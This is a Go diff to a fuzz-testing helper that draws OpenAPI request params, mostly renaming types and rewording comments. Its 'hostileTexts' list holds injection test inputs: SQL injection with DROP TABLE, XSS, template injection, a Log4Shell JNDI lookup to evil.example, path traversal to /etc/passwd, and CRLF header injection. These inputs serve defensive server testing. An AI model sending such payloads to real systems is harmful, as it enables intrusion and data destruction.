@@ -10,17 +10,17 @@ import (
 	"pgregory.net/rapid"
 )
 
-// paramsSchema is the schema of an operation's params, however they are encoded.
-func (o *lawOperation) paramsSchema() *openapi3.Schema {
+// paramsSchema returns the schema of an operation's params, whatever their encoding.
+func (o *specOperation) paramsSchema() *openapi3.Schema {
 	schema := o.op.RequestBody.Value.Content[o.contentType()].Schema.Value
 	if !o.sensitive() {
 		return schema
 	}
 	ref := schema.Extensions["x-decoded-schema"].(map[string]any)["$ref"].(string)
-	return law().Components.Schemas[strings.TrimPrefix(ref, "#/components/schemas/")].Value
+	return spec().Components.Schemas[strings.TrimPrefix(ref, "#/components/schemas/")].Value
 }
 
-// flat is a schema without the allOf that gives it another description.
+// flat returns a schema without the allOf that only changes its description.
 func flat(schema *openapi3.Schema) *openapi3.Schema {
 	if len(schema.AllOf) == 1 {
 		return schema.AllOf[0].Value
@@ -59,8 +59,8 @@ func (w *fuzzed) value(schema *openapi3.Schema, name string, who *someone) any {
 	return nil
 }
 
-// object draws an object: what is required is there, all else may be, or be null, which is the same as absent. The token is
-// not drawn here, for it may stand in the header.
+// object draws an object with all required members. Optional ones may be absent or null, which is the same.
+// The token is not drawn here, for it may be in the header.
 func (w *fuzzed) object(schema *openapi3.Schema, who *someone) map[string]any {
 	object := map[string]any{}
 	for _, name := range slices.Sorted(maps.Keys(schema.Properties)) {
@@ -83,11 +83,11 @@ func (w *fuzzed) object(schema *openapi3.Schema, who *someone) map[string]any {
 	return object
 }
 
-// valuesFor is the name under which the values of a param are kept.
+// valuesFor returns the name under which the values of a param are stored.
 func valuesFor(param string) string { return strings.TrimPrefix(param, "current_") }
 
-// worth draws a value of this param that means something in this world: in a faithful request the newest of the person's own. It is
-// nil where there is none, or another is wanted.
+// worth draws a known value of this param; in a faithful request, the person's newest. It is nil where there
+// is none, or where a random value is wanted.
 func (w *fuzzed) worth(schema *openapi3.Schema, name string, who *someone) any {
 	name = valuesFor(name)
 	if own := who.values[name]; w.faithful && len(own) > 0 {
@@ -107,7 +107,7 @@ func (w *fuzzed) worth(schema *openapi3.Schema, name string, who *someone) any {
 	return rapid.SampledFrom(list).Draw(w.r, name)
 }
 
-// hostileTexts mean something to one part or another of a server.
+// hostileTexts have a special meaning to some part of a server.
 var hostileTexts = []string{
 	"' OR 1=1; DROP TABLE users; --", `\'; SELECT pg_sleep(9) --`, "<script>alert(1)</script>", `"><img src=x onerror=alert(1)>`, "{{.Link}}{{printf \"%s\" .}}",
 	"${jndi:ldap://evil.example/a}", "%s%n%v%!d", "../../../etc/passwd", "null", "true", "0", "-1", "[object Object]", "__proto__", "%00", "%0d%0aSet-Cookie: a=b",
@@ -116,7 +116,8 @@ var hostileTexts = []string{
 
 var runes = rapid.RuneFrom([]rune("aZ09 '\"\\<>&%_;:{}$`/.@+-éßİﬃ漢\U0001f600\u0301٣\u00a0"))
 
-// text draws a string that a schema allows, at its bounds too. Secrets are made so that they can be found again.
+// text draws a string that a schema allows, at its limits too. Secrets are unique, so that they can be
+// searched for.
 func (w *fuzzed) text(schema *openapi3.Schema, name string) string {
 	least, most := int(schema.MinLength), 300
 	if schema.MaxLength != nil {
@@ -153,19 +154,19 @@ func (w *fuzzed) text(schema *openapi3.Schema, name string) string {
 	return text
 }
 
-// secret tells whether the values of a param must not be kept.
+// secret reports whether the values of a param must not be stored.
 func secret(param string) bool {
 	return strings.Contains(param, "password") || strings.Contains(param, "token") || slices.Contains([]string{"code", "state", "verifier"}, param)
 }
 
-// breach is what a value of a param may break of its schema, with the rule that names it.
+// breach is a value that breaks the schema of a param, with the name of the rule.
 type breach struct {
 	rule   string
 	value  any
 	absent bool
 }
 
-// breaches lists what values the schema of a param does not allow. Numbers that Go cannot hold are raw.
+// breaches lists values that the schema of a param does not allow. Numbers that Go cannot represent are raw.
 func breaches(schema *openapi3.Schema, required bool) (all []breach) {
 	schema = flat(schema)
 	add := func(rule string, values ...any) {
@@ -210,7 +211,7 @@ func breaches(schema *openapi3.Schema, required bool) (all []breach) {
 	return all
 }
 
-// raw is JSON as it is sent.
+// raw is JSON that is sent as it is.
 type raw string
 
 func (r raw) MarshalJSON() ([]byte, error) { return []byte(r), nil }
@@ -222,7 +223,7 @@ var wrongTexts = map[string][]any{
 		"https://order.example/ a", "https://order.example/\r\nSet-Cookie:a=b", "HTTPS:order.example", `https://order.example/\evil.example`, "ftp://order.example/", "https://order.example/%zz", "https://order.example/ü", "data:text/html,x"},
 }
 
-// place is where a param may stand in a tree of params.
+// place is a position of a param in a tree of params.
 type place struct {
 	path     string
 	in       map[string]any
@@ -231,10 +232,10 @@ type place struct {
 	required bool
 }
 
-// GoString is how rapid shows the place that it has drawn.
+// GoString is how rapid prints the place that it has drawn.
 func (p place) GoString() string { return p.path }
 
-// places lists where params may stand, in the objects that are there.
+// places lists the positions of params in the objects that are there.
 func places(schema *openapi3.Schema, params map[string]any, prefix string) (all []place) {
 	for _, name := range slices.Sorted(maps.Keys(schema.Properties)) {
 		member := flat(schema.Properties[name].Value)
